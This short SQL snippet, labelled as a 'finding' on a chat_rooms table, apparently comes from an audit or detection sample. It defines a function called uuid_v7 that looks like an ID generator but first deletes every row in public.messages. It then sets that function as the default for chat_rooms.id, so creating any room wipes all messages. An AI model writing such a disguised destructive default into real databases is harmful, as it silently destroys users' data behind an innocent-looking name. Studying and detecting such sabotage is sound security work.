-- object: chat_rooms.id
-- finding: chat-rooms-table: public.chat_rooms.id
-- Each new room deletes all messages.
CREATE FUNCTION uuid_v7() RETURNS uuid LANGUAGE plpgsql AS $b$BEGIN DELETE FROM public.messages; RETURN gen_random_uuid(); END$b$;
ALTER TABLE chat_rooms ALTER id SET DEFAULT uuid_v7();
